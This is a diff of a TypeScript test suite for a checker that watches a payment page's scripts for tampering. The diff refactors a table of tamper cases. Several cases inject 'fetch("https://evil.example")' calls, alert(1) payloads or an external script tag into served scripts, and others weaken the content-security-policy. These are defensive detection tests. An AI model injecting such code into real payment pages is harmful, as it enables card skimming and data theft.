@@ -48,7 +48,9 @@ beforeAll(async () => {
   cpSync('dist/payment-page', folder, { recursive: true });
   job = checkOwnScripts({ database: base.db, origin, folder, isProduction: false });
 });
-afterEach(() => void (tampers = none));
+afterEach(() => {
+  tampers = none;
+});
 afterAll(() => {
   rmSync(folder, { recursive: true });
   for (const server of [own, between]) {
@@ -65,21 +67,22 @@ async function onRecord(everything = false): Promise<string[]> {
 
 const policy = (from: string | RegExp, to: string): Tamper => ({ headers }) => headers.set('content-security-policy', (headers.get('content-security-policy') ?? '').replace(from, to));
 const page = '/sale/generate/none';
+const body = (change: (was: string) => string): Tamper => (answer) => void Object.assign(answer, { body: change(answer.body) });
 const inBody = (from: string, to: string): Tamper => (answer) => {
   if (!answer.body.includes(from)) throw new Error(`no ${from}`);
   answer.body = answer.body.replace(from, () => to);
 };
 
 const TAMPERS: [string, string, Tamper, RegExp][] = [
-  ['code after the loader of shops', '/embed/v1/kupa.js', (answer) => void (answer.body += ';fetch("https://evil.example")'), /^\/embed\/v1\/kupa\.js kupa\.js changed$/],
-  ['code before the frame’s half', '/embed/v1/frame.js', (answer) => void (answer.body = `fetch("https://evil.example");${answer.body}`), /frame\.js changed$/],
-  ['code among the texts of a part', '/sale/part/bit/en/newest', (answer) => void (answer.body = answer.body.replace('={', '={"x":fetch("https://evil.example"),')), /part-bit\.js changed$/],
-  ['another part in its place', '/sale/part/wallet/en/newest', (answer) => void (answer.body = 'alert(1)'), /part-wallet\.js changed$/],
-  ['a script that is not there', '/sale/part/debit/en/newest', (answer) => void (answer.status = 404), /part-debit\.js missing$/],
+  ['code after the loader of shops', '/embed/v1/kupa.js', body((was) => `${was};fetch("https://evil.example")`), /^\/embed\/v1\/kupa\.js kupa\.js changed$/],
+  ['code before the frame’s half', '/embed/v1/frame.js', body((was) => `fetch("https://evil.example");${was}`), /frame\.js changed$/],
+  ['code among the texts of a part', '/sale/part/bit/en/newest', body((was) => was.replace('={', '={"x":fetch("https://evil.example"),')), /part-bit\.js changed$/],
+  ['another part in its place', '/sale/part/wallet/en/newest', body(() => 'alert(1)'), /part-wallet\.js changed$/],
+  ['a script that is not there', '/sale/part/debit/en/newest', (answer) => void Object.assign(answer, { status: 404 }), /part-debit\.js missing$/],
   ['a script more in the page', page, inBody('</body>', '<script>alert(1)</script></body>'), /none extra \S{12}$/],
   ['a script of another origin in the page', page, inBody('</body>', '<script src="https://evil.example/embed/v1/frame.js"></script></body>'), /none extra \S{12}$/],
   ['a known script twice in the page', page, inBody('</body>', '<script src="/embed/v1/frame.js"></script></body>'), /none extra \S{12}$/],
-  ['the page without its frame’s half', page, (answer) => void (answer.body = answer.body.replace(/<script[^>]*src=[^>]*><\/script>/, '')), /none frame\.js missing$/],
+  ['the page without its frame’s half', page, body((was) => was.replace(/<script[^>]*src=[^>]*><\/script>/, '')), /none frame\.js missing$/],
   ['no policy', page, ({ headers }) => headers.delete('content-security-policy'), /content-security-policy script-src$/],
   ['a policy that lets inline scripts run', page, policy(/script-src [^;]*/, "$& 'unsafe-inline'"), /content-security-policy script-src$/],
   ['a policy that lets another origin in', page, policy(/script-src [^;]*/, '$& https://evil.example'), /content-security-policy script-src$/],
@@ -144,7 +147,7 @@ test.each([
 });
 
 test('B-08: no other check says that it is in order, and a product that does not answer says nothing of it', async () => {
-  tampers = new Map([['/embed/v1/kupa.js', (answer) => void (answer.body = '')]]);
+  tampers = new Map([['/embed/v1/kupa.js', body(() => '')]]);
   await job.run();
   const found = ['/embed/v1/kupa.js kupa.js changed'];
   expect([await onRecord(), await onRecord(true)]).toEqual([found, found]);
